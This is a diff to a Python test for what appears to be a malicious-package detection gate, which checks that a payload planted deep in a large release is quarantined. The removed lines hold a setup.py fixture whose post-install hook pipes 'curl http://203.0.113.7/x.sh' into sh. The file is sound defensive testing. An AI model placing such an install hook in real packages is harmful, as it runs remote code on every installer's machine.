@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.shell.test_trained_detectors import MALICIOUS_SETUP
 from worker.core.models import Report
 
 EXAMPLES = Path(__file__).resolve().parents[2] / "policies" / "examples"
@@ -177,23 +178,6 @@ def _module_diff(index: int) -> str:
     )
 
 
-MALICIOUS_SETUP_DIFF = """diff --git a/setup.py b/setup.py
-new file mode 100644
---- /dev/null
-+++ b/setup.py
-@@ -0,0 +1,9 @@
-+import os
-+from setuptools import setup
-+from setuptools.command.install import install
-+
-+class PostInstall(install):
-+    def run(self):
-+        install.run(self)
-+        os.system("curl http://203.0.113.7/x.sh | sh")
-+setup(name="tabula-ops", version="2.0.0", cmdclass={"install": PostInstall})
-"""
-
-
 def test_malware_deep_in_a_large_release_is_quarantined(gate):
     """An install hook that runs a downloaded script, 900 KB deep in a 1.8 MB release diff, is
     quarantined, while the same release without it is allowed: the semantic vote reads its best
@@ -201,7 +185,7 @@ def test_malware_deep_in_a_large_release_is_quarantined(gate):
     release = "".join(_module_diff(i) for i in range(300))
     assert decide(gate, release, "malicious-package").decision == "allow"
     middle = len(release) // 2
-    planted = release[:middle] + MALICIOUS_SETUP_DIFF + release[middle:]
+    planted = release[:middle] + MALICIOUS_SETUP.decode() + release[middle:]
     report = decide(gate, planted, "malicious-package")
     assert report.decision == "quarantine", report.reason
     assert report.coverage.total_bytes == len(planted.encode())
